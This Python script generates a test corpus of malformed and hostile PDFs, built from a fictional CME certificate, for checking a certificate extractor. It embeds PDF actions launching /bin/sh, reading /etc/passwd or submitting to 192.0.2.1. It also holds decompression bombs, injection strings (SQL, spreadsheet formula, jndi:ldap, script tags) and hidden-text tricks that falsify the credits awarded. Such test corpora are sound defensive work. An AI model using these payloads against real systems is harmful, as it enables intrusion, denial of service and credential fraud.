"""Builds a corpus of hostile and broken PDFs, all from one good certificate of invented people.

make.py DIR [--full]: writes DIR/*.pdf and DIR/expect.tsv: a file's name, and the words that its
outcome must be one of: outcomes of `extract`, and for a certificate `accepted` (as the eye sees
it on the good page), `accepted-other` (otherwise) or `pending`. --full adds what needs minutes and much memory: bombs at their real size.
"""
import os
import random
import subprocess
import sys
import zlib

NAME, CREDITS = "Marguerite Ellison-Hart, MD", "12.25"
LINES = [
    "Certificate of Credit",
    "The American Society of Plastic Surgeons certifies that",
    NAME,
    "has participated in the live activity titled",
    "Breast Surgery and Body Contouring Symposium",
    "Saturday, August 16th, 2025",
    f"and is awarded {CREDITS} AMA PRA Category 1 Credits\231.",
    "The American Society of Plastic Surgeons is accredited by the Accreditation Council for",
    "Continuing Medical Education (ACCME) to provide continuing medical education for physicians.",
    "The American Society of Plastic Surgeons designates this live activity for a maximum of",
    "14.00 AMA PRA Category 1 Credits\231. Physicians should claim only the credit commensurate",
    "with the extent of their participation in the activity.",
]
AWARD = 6
CLOSED = "not-a-certificate no-text damaged not-a-pdf encrypted too-large timed-out crashed"
UNSEEN = CLOSED + " pending"       # must be looked at by a person
ANY = UNSEEN + " accepted"         # and what is accepted is right
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"


def literal(text):
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")


def show(line, i, size=11):
    return b"BT /F %d Tf 1 0 0 1 60 %d Tm (%s) Tj ET\n" % (size, 700 - 24 * i, literal(line))


def content(change=None, lines=LINES):
    """The page; change(i, line) gives other operators for a line, or None to leave it."""
    out = b""
    for i, line in enumerate(lines):
        other = change(i, line) if change else None
        out += show(line, i) if other is None else other
    return out


def at_award(other):
    return content(lambda i, line: other(line, i) if i == AWARD else None)


def stream(data, extra=b"", pack=False):
    if pack:
        data, extra = zlib.compress(data, 9), extra + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n" % (extra, len(data)) + data + b"\nendstream"


def objects_of(page=None, box=b"[0 0 612 792]", page_extra=b"", catalog=b"", font=HELVETICA,
               resources=b"", more=(), contents=None):
    return [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox" + box + b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
        + resources + b">>" + page_extra + b">>",
        contents or stream(content() if page is None else page, pack=len(page or b"") > 50000),
        font, *more]


def write(objects, header=b"%PDF-1.7\n", trailer=b""):
    out, places = bytearray(header), []
    for i, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref)
    return bytes(out)


def pdf(page=None, **kw):
    return write(objects_of(page, **kw))


class Corpus:
    def __init__(self, folder):
        self.folder, self.lines = folder, []

    def add(self, name, data, expect=ANY):
        with open(os.path.join(self.folder, name + ".pdf"), "wb") as f:
            f.write(data)
        self.lines.append(f"{name}.pdf\t{expect}\n")

    def qpdf(self, name, data, expect, *options):
        source, target = (os.path.join(self.folder, n) for n in ("in.tmp", name + ".pdf"))
        with open(source, "wb") as f:
            f.write(data)
        subprocess.run(["qpdf", *options, source, target], check=True, stderr=subprocess.DEVNULL)
        os.unlink(source)
        self.lines.append(f"{name}.pdf\t{expect}\n")
        with open(target, "rb") as f:
            return f.read()


def cuts(c, good):
    whole = {"plain": good}
    whole["linear"] = c.qpdf("whole-linear", good, "accepted", "--linearize", "--deterministic-id")
    whole["packed"] = c.qpdf("whole-packed", good, "accepted", "--object-streams=generate",
                             "--deterministic-id")
    # a later version at its end: what comes before it is a whole file with another award
    old = pdf(at_award(lambda line, i: show(line.replace(CREDITS, "13.75"), i)))
    new = stream(content())
    tail = b"4 0 obj" + new + b"endobj\n"
    xref = len(old) + len(tail)
    tail += b"xref\n4 1\n%010d 00000 n \ntrailer<</Root 1 0 R/Size 6/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(old), old.rindex(b"xref\n0 "), xref)
    whole["updated"] = old + tail
    c.add("whole-updated", old + tail, "accepted")
    for kind, data in whole.items():
        for tenth in range(1, 10):
            c.add(f"cut-{kind}-{tenth}0", data[:len(data) * tenth // 10], UNSEEN)
        c.add(f"cut-{kind}-last", data[:-40], UNSEEN)
    c.add("cut-updated-early", (old + tail)[:len(old) + 60], UNSEEN)
    c.add("trailing-garbage", good + b"\0" * 700, ANY)
    c.add("trailing-garbage-2k", good + b"\0" * 2000, UNSEEN)


def junk(c, good):
    rng = random.Random(1)
    for name, data in {
            "zero-byte": b"", "one-byte": b"%", "random": rng.randbytes(60000), "elf": b"\x7fELF" + bytes(900),
            "html": b"<html><title>Certificate</title></html>", "png": b"\x89PNG\r\n\x1a\n" + bytes(200),
            "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(100), "gzip-of-pdf": zlib.compress(good),
            "utf16-of-pdf": good.decode("latin-1").encode("utf-16"), "ps": b"%!PS-Adobe-3.0\nshowpage\n",
    }.items():
        c.add("junk-" + name, data, "not-a-pdf")
    c.add("junk-header-only", b"%PDF-1.7\n", "damaged")
    c.add("junk-header-eof", b"%PDF-1.7\n%%EOF\n", "damaged")
    for rot in range(8):
        bad = bytearray(good)
        for _ in range(2 << rot):
            bad[rng.randrange(len(bad))] = rng.randrange(256)
        c.add(f"junk-rot-{2 << rot}", bytes(bad), UNSEEN + " accepted-other" if rot > 2 else ANY + " accepted-other")
    for at in (1, 512, 1019, 1025, 4096):
        c.add(f"header-at-{at}", b"\n" * at + good, ANY if at < 1020 else "not-a-pdf")
    c.add("poly-html", b"<html><!--\n" + good + b"--></html>")
    c.add("poly-jpeg", b"\xff\xd8\xff\xfe\0\x10JFIF\n" + good)
    c.add("poly-zip", b"PK\3\4\x14" + bytes(21) + b"\5\0\0\0a.pdf" + good + b"PK\5\6" + bytes(18))
    c.add("poly-two", good + pdf(at_award(lambda line, i: show(line.replace(CREDITS, "13.75"), i))))


def structure(c, good):
    base = objects_of()

    def tree(name, pages, expect, more=()):
        c.add("pages-" + name, write([base[0], pages, *base[2:], *more]), expect)
    tree("none", b"<</Type/Pages/Kids[]/Count 0>>", "damaged")
    tree("self", b"<</Type/Pages/Kids[2 0 R]/Count 1>>", "damaged")
    tree("missing", b"<</Type/Pages/Kids[99 0 R]/Count 1>>", "damaged")
    tree("one-missing", b"<</Type/Pages/Kids[3 0 R 99 0 R]/Count 2>>", "damaged pending")
    tree("loop", b"<</Type/Pages/Kids[6 0 R]/Count 1>>", "damaged",
         [b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    tree("count-negative", b"<</Type/Pages/Kids[3 0 R]/Count -1>>", ANY)
    tree("count-huge", b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", UNSEEN)
    tree("count-50k", b"<</Type/Pages/Kids[3 0 R]/Count 50000>>", UNSEEN)
    kids = b" ".join(b"3 0 R" for _ in range(100_000))
    tree("100k", b"<</Type/Pages/Kids[" + kids + b"]/Count 100000>>", UNSEEN)
    nest = [b"<</Type/Pages/Kids[%s]/Count 1>>" % b" ".join([b"%d 0 R" % (i + 7)] * 10)
            for i in range(12)] + [b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    tree("laughs", b"<</Type/Pages/Kids[6 0 R]/Count 1>>", ANY, nest)
    for name, old, new in (
            ("xref-wrong", b"\nstartxref\n", b"\nstartxref\n9"), ("xref-negative", b"startxref\n", b"startxref\n-"),
            ("xref-prev-self", b"/Size 6", b"/Size 6/Prev %d" % good.index(b"xref\n0 ")),
            ("xref-stm-self", b"/Size 6", b"/Size 6/XRefStm %d" % good.index(b"xref\n0 ")),
            ("xref-size-huge", b"/Size 6", b"/Size 2147483647"), ("xref-count-huge", b"xref\n0 6", b"xref\n0 999999999"),
            ("xref-start-huge", b"xref\n0 6", b"xref\n4294967290 6"), ("root-missing", b"/Root 1 0 R", b"/Root 9 0 R"),
            ("root-self", b"/Root 1 0 R", b"/Root 2 0 R"), ("length-self", b"/Length ", b"/Length 4 0 R/L "),
            ("contents-none", b"/Contents 4 0 R", b"/Contents 9 0 R"), ("version", b"PDF-1.7", b"PDF-9.9")):
        c.add(name, good.replace(old, new, 1), UNSEEN if "none" in name else ANY)
    head = b"%PDF-1.7\n" + b"".join(b"%d 0 obj" % i + o + b"endobj\n" for i, o in enumerate(base, 1))
    for name, keys in (("w-huge", b"/W[9 2147483647 9]"), ("w-negative", b"/W[1 -2 1]"), ("w-zero", b"/W[0 0 0]"),
                       ("index-huge", b"/W[1 2 1]/Index[0 2147483647]"),
                       ("prev-self", b"/W[1 2 1]/Prev %d" % len(head))):
        c.add("xrefstream-" + name, head + b"7 0 obj" + stream(
            bytes(28), b"/Type/XRef/Size 7/Root 1 0 R" + keys) + b"endobj\nstartxref\n%d\n%%%%EOF\n" % len(head))
    for name, keys in (("self", b"/N 1/First 4/Extends 6 0 R"), ("n-huge", b"/N 2147483647/First 4"),
                       ("first-negative", b"/N 1/First -9")):
        c.add("objstm-" + name, write(base + [stream(b"6 0 <<>>", b"/Type/ObjStm" + keys)]))
    for name, box in (("zero", b"[0 0 0 0]"), ("giant", b"[0 0 1e9 1e9]"), ("14400", b"[0 0 14400 14400]"),
                      ("1e38", b"[0 0 1e38 1e38]"), ("negative", b"[-612 -792 0 0]"), ("inverted", b"[612 792 0 0]"),
                      ("offset", b"[5000 5000 5612 5792]"), ("strings", b"[(a)(b)(c)(d)]"), ("short", b"[0 0 612]"),
                      ("tiny", b"[0 0 1 1]")):
        c.add("mediabox-" + name, pdf(box=box))
    c.add("cropbox-away", pdf(page_extra=b"/CropBox[0 0 20 20]"), UNSEEN)
    c.add("cropbox-award", pdf(page_extra=b"/CropBox[0 570 612 792]"), UNSEEN)
    c.add("userunit", pdf(page_extra=b"/UserUnit 1000000"))
    for angle in (45, 90, 2147483640):
        c.add(f"rotate-{angle}", pdf(page_extra=b"/Rotate %d" % angle))


def locked(c, good):
    for bits, name, options in ((40, "rc4-40", ()), (128, "rc4-128", ("--use-aes=n",)), (128, "aes-128", ("--use-aes=y",)),
                                (256, "aes-256", ()), (256, "aes-256-r5", ("--force-R5",))):
        weak = ["--allow-weak-crypto"]
        shut = ("--extract=n",) if bits != 256 or not options else ()
        c.qpdf(f"lock-{name}-user", good, "encrypted", *weak, "--encrypt", "secret", "owner", str(bits), *options, "--")
        c.qpdf(f"lock-{name}-owner", good, "accepted", *weak, "--encrypt", "", "owner", str(bits), *options, *shut, "--")
    data = good.replace(b"/Size 6", b"/Size 6/Encrypt<</Filter/Standard/V 9/R 9/O()/U()/P -4>>")
    c.add("lock-nonsense", data, ANY)
    c.add("lock-other-filter", data.replace(b"/Standard", b"/Adobe.PubSec"), "encrypted damaged")


def deeds(c, _good):
    for name, action in {
            "javascript": b"/S/JavaScript/JS(app.alert\\(1\\))", "launch": b"/S/Launch/F(/bin/sh)", "uri": b"/S/URI/URI(file:///etc/passwd)",
            "submit": b"/S/SubmitForm/F(http://192.0.2.1/)", "remote": b"/S/GoToR/F(\\\\\\\\192.0.2.1\\\\x)/D[0/Fit]",
            "import": b"/S/ImportData/F(/etc/passwd)", "rendition": b"/S/Rendition/R<</S/MR/C<</S/MCD/D 1 0 R>>>>/OP 0"}.items():
        c.add("action-" + name, pdf(catalog=b"/OpenAction<<%s>>" % action, page_extra=b"/AA<</O<<%s>>>>" % action))
        c.add("link-" + name, pdf(page_extra=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%s>>>>]" % action))
    c.add("screen-no-type", pdf(page_extra=b"/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/AN 3 0 R"
                                b"/R<</S/MR/C<</S/MCD/D<</F(x.wav)>>>>>>>>>>]"))
    c.add("embedded", pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(../../x)<</Type/Filespec/F(../../x)/EF<</F 6 0 R>>>>]>>>>",
                          more=[stream(b"MZ" * 500, b"/Type/EmbeddedFile")]))
    c.add("outline-loop", pdf(catalog=b"/Outlines 6 0 R", more=[b"<</First 7 0 R/Last 7 0 R>>", b"<</Title(x)/Next 7 0 R/Parent 6 0 R>>"]))
    c.add("struct-loop", pdf(catalog=b"/StructTreeRoot 6 0 R/MarkInfo<</Marked true>>", more=[b"<</Type/StructTreeRoot/K 7 0 R>>", b"<</S/P/P 6 0 R/K 7 0 R>>"]))
    c.add("field-loop", pdf(catalog=b"/AcroForm<</Fields[6 0 R]>>", more=[b"<</T(a)/FT/Tx/Kids[6 0 R]/Parent 6 0 R>>"]))
    note = b"/Annots[<</Type/Annot/Subtype/FreeText/Rect[60 540 500 560]/DA(/F 11 Tf)/Contents(and is awarded 99.00 AMA PRA Category 1 Credits)>>]"
    c.add("note-other-award", pdf(page_extra=note), UNSEEN)
    fill = pdf(at_award(lambda line, i: show("and is awarded", i)), catalog=b"/AcroForm<</Fields[6 0 R]>>", page_extra=b"/Annots[6 0 R]",
               more=[b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(" + literal(f"{CREDITS} AMA PRA Category 1 Credits") + b")/DA(/F 11 Tf 0 g)/Rect[140 550 500 572]>>"])
    c.add("field-award", fill, UNSEEN)


def unseen(c, _good):
    """The award cannot be seen, or the eye sees another than the file says."""
    def hide(name, before=b"", after=b"", expect=UNSEEN, **kw):
        c.add("unseen-" + name, pdf(at_award(lambda line, i: b"q " + before + b" " + show(line, i) + after + b" Q\n"), **kw), expect)
    hide("white", b"1 1 1 rg")
    hide("near-white", b"0.99 0.99 0.99 rg")
    hide("white-cmyk", b"0 0 0 0 k")
    hide("clip", b"0 0 1 1 re W n")
    hide("tiny", b"0.001 0 0 0.001 0 0 cm")
    hide("flat", b"1 0 0 0 0 0 cm")
    hide("away", b"1 0 0 1 2000 0 cm")
    hide("covered", after=b"1 1 1 rg 50 540 540 24 re f")
    hide("transparent", b"/G gs", resources=b"/ExtGState<</G<</ca 0/CA 0>>>>")
    hide("layer-off", b"/OC /L BDC", b"EMC", resources=b"/Properties<</L 6 0 R>>", more=[b"<</Type/OCG/Name(x)>>"],
         catalog=b"/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>")
    def whiten(name, line, words):
        """Some words of a line are white, the rest of it is seen."""
        before, after = LINES[line].split(words)
        parts = b"BT /F 11 Tf 1 0 0 1 60 %d Tm (%s) Tj 1 g (%s) Tj 0 g (%s) Tj ET\n" % (
            700 - 24 * line, literal(before), literal(words), literal(after))
        c.add("unseen-" + name, pdf(content(lambda i, _: parts if i == line else None)), UNSEEN)
    whiten("unit", AWARD, "AMA PRA Category 1 Credits")
    whiten("verb", AWARD, "and is awarded")
    whiten("accredited", 7, "is accredited by the Accreditation Council for")
    whiten("certifies", 1, "certifies that")
    for mode in (3, 7):
        c.add(f"unseen-tr{mode}", pdf(at_award(lambda line, i: b"q BT %d Tr ET " % mode + show(line, i).replace(b"BT", b"BT %d Tr" % mode) + b" Q\n")), UNSEEN)
    said = b"/Span<</ActualText(%s)>>BDC " % literal(LINES[AWARD])
    c.add("unseen-actualtext", pdf(at_award(lambda line, i: said + show(line.replace(CREDITS, "1.00"), i) + b"EMC\n")), UNSEEN)
    c.add("unseen-actualtext-name", pdf(content(lambda i, line: b"/Span<</ActualText(%s)>>BDC " % literal(NAME) + show("Aaaaaaaaaa Bbbbbb-Cccc, MD", i) + b"EMC\n"
                                                if i == 2 else None)), UNSEEN)
    c.add("unseen-all", pdf(b"3 Tr " + content()), UNSEEN)
    c.add("overprint", pdf(content() + show("and is awarded 99.00 AMA PRA Category 1 Credits", AWARD)), UNSEEN)
    c.add("hidden-second-award", pdf(content() + b"3 Tr " + show("and is awarded 99.00 AMA PRA Category 1 Credits", 13)), ANY)
    c.add("no-unicode", pdf(font=HELVETICA[:-2] + b"/ToUnicode 6 0 R>>", more=[stream(cmap(b""))]))


def cmap(body):
    return (b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap/CMapName/x def/CMapType 2 def\n"
            b"1 begincodespacerange<00><ff>endcodespacerange\n" + body + b"\nendcmap end end\n")


def fonts(c, _good):
    def mapped(name, body, expect=UNSEEN):
        c.add("tounicode-" + name, pdf(font=HELVETICA[:-2] + b"/ToUnicode 6 0 R>>", more=[stream(cmap(body))]), expect)
    mapped("other-figures", b"2 beginbfchar<31><0033><32><0034>endbfchar")  # drawn 12.25, said 34.45
    mapped("private", b"1 beginbfrange<20><7e><e020>endbfrange")
    mapped("nulls", b"1 beginbfrange<20><7e><0000>endbfrange")
    mapped("surrogates", b"1 beginbfrange<20><7e><d800>endbfrange")
    mapped("newlines", b"1 beginbfchar<20><000a>endbfchar", ANY)
    mapped("escape", b"1 beginbfchar<20><001b005b00330031006d>endbfchar", ANY)
    mapped("bidi", b"1 beginbfchar<20><202e0020>endbfchar", ANY)
    mapped("range-4g", b"1 beginbfrange<00000000><ffffffff><0041>endbfrange", ANY)
    mapped("usecmap", b"/x usecmap", ANY)
    mapped("long", b"1 beginbfchar<41><" + b"0041" * 20000 + b">endbfchar", ANY)
    swap = HELVETICA.replace(b"/WinAnsiEncoding", b"<</BaseEncoding/WinAnsiEncoding/Differences[49/two/one]>>")
    c.add("font-swapped", pdf(font=swap), UNSEEN)
    rng = random.Random(2)
    for key, kind in ((b"FontFile", b"Type1"), (b"FontFile2", b"TrueType"), (b"FontFile3", b"Type1")):
        extra = b"/Subtype/Type1C" if key == b"FontFile3" else b""
        for name, data in (("random", rng.randbytes(5000)), ("zeros", bytes(5000))):
            c.add(f"font-{key.decode().lower()}-{name}", pdf(
                font=b"<</Type/Font/Subtype/" + kind + b"/BaseFont/AAAAAA+X/FirstChar 32/LastChar 126/Widths[" + b"500 " * 95 +
                b"]/Encoding/WinAnsiEncoding/FontDescriptor<</Type/FontDescriptor/FontName/AAAAAA+X/Flags 32/" + key + b" 6 0 R>>>>",
                more=[stream(data, extra)]))
    c.add("font-missing", pdf(font=b"null"), ANY)
    c.add("font-huge", pdf(content(lambda i, line: show(line, i, 1000000) if i == AWARD else None)), UNSEEN)
    c.add("type3-self", pdf(b"BT /F 9 Tf 20 20 Td (aaaa) Tj ET", font=b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]"
                            b"/FirstChar 97/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
                            more=[stream(b"1 0 d0 BT /F 1 Tf (a) Tj ET")]), CLOSED)


def bombs(c, _good, full):
    much = 40 if full else 1
    spaces = zlib.compress(b" " * (25_000_000 * much), 9)
    c.add("bomb-spaces", pdf(contents=b"<</Filter/FlateDecode/Length %d>>stream\n" % len(spaces) + spaces + b"\nendstream"), CLOSED)
    nested = zlib.compress(spaces, 9)
    c.add("bomb-nested", pdf(contents=b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(nested) + nested + b"\nendstream"), CLOSED)
    c.add("bomb-filters", pdf(contents=b"<</Filter[" + b"/ASCIIHexDecode" * 1000 + b"]/Length 1>>stream\n>\nendstream"), CLOSED)
    c.add("bomb-q", pdf(b"q " * (100_000 * much) + content()))
    c.add("bomb-path", pdf(b"0 0 m " + b"9 9 l " * (100_000 * much) + b"S " + content()))
    c.add("bomb-letters", pdf(b"BT /F 1 Tf 9 9 Td " + b"(aaaaaaaaaaaaaaaaaaaa) Tj " * (5_000 * much) + b"ET " + content()))
    c.add("bomb-string", pdf(content(lambda i, line: show("A" * 1_000_000, i) if i == 4 else None)), UNSEEN)
    c.add("bomb-name", pdf(content(lambda i, line: show("A" * 100_000 + ", MD", i) if i == 2 else None)), UNSEEN)
    depth = 10 if full else 4
    forms = [stream(b"/X%d Do " % (n + 1) * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X%d %d 0 R>>>>" % (n + 1, 7 + n))
             for n in range(depth)] + [stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")]
    c.add("bomb-forms", pdf(content() + b"/X0 Do", resources=b"/XObject<</X0 6 0 R>>", more=forms))
    c.add("form-self", pdf(content() + b"/X0 Do", resources=b"/XObject<</X0 6 0 R>>",
                           more=[stream(b"/X0 Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X0 6 0 R>>>>")]))
    for name, size, bits in (("square", 65535, 8), ("over", 2147483647, 16)):
        c.add("image-" + name, pdf(b"q 612 0 0 792 0 0 cm /X Do Q", resources=b"/XObject<</X 6 0 R>>", more=[stream(
            bytes(100), b"/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/Width %d/Height %d/BitsPerComponent %d" % (size, size, bits))]), CLOSED)
    c.add("image-only", pdf(b"q 612 0 0 792 0 0 cm /X Do Q", resources=b"/XObject<</X 6 0 R>>", more=[stream(
        bytes(12), b"/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/Width 2/Height 2/BitsPerComponent 8")]), "no-text")
    for name in ("CCITTFax", "DCT", "JBIG2", "JPX", "LZW", "RunLength"):
        c.add("filter-" + name.lower(), pdf(content() + b"q 9 0 0 9 0 0 cm /X Do Q", resources=b"/XObject<</X 6 0 R>>", more=[stream(
            random.Random(3).randbytes(3000), b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/Width 99/Height 99/BitsPerComponent 8/Filter/" + name.encode() + b"Decode")]))
    c.add("pattern-tiny", pdf(content() + b"/Pattern cs /P scn 0 0 612 792 re f", resources=b"/Pattern<</P 6 0 R>>", more=[stream(
        b"0 0 1 1 re f", b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01/Resources<<>>")]))
    deep = b"[" * (50_000 * much)
    c.add("nest-arrays", pdf(deep + content()), ANY)
    c.add("nest-parens", pdf(b"(" * (50_000 * much) + content()), ANY)


def words(c, _good):
    """Text that would do harm where it is taken for more than text."""
    for name, title in {
            "formula": '=HYPERLINK("http://192.0.2.1","x") of Breast Surgery', "script": "<script>alert(1)</script> Breast Surgery",
            "sql": "'); DROP TABLE entry; -- Breast Surgery", "format": "%s%n%p%x Breast Surgery", "path": "../../../etc/passwd Breast Surgery",
            "template": "{{7*7}} ${jndi:ldap://192.0.2.1/a} Breast Surgery"}.items():
        c.add("words-" + name, pdf(content(lambda i, line: show(title, i) if i == 4 else None)), UNSEEN + " accepted-other")
    escape = content(lambda i, line: show("Breast \033[2J\033]0;x\007 Surgery \010\010\177 Symposium", i) if i == 4 else None)
    c.add("words-escape", pdf(escape), UNSEEN + " accepted-other")
    c.add("words-nul", pdf(content(lambda i, line: show("Breast\0Surgery", i) if i == 4 else None)), UNSEEN + " accepted-other")


def main():
    folder, full = sys.argv[1], "--full" in sys.argv[2:]
    os.makedirs(folder, exist_ok=True)
    corpus, good = Corpus(folder), pdf()
    corpus.add("good", good, "accepted")
    for family in (cuts, junk, structure, locked, deeds, unseen, fonts, words):
        family(corpus, good)
    bombs(corpus, good, full)
    with open(os.path.join(folder, "expect.tsv"), "w") as f:
        f.writelines(corpus.lines)


main()
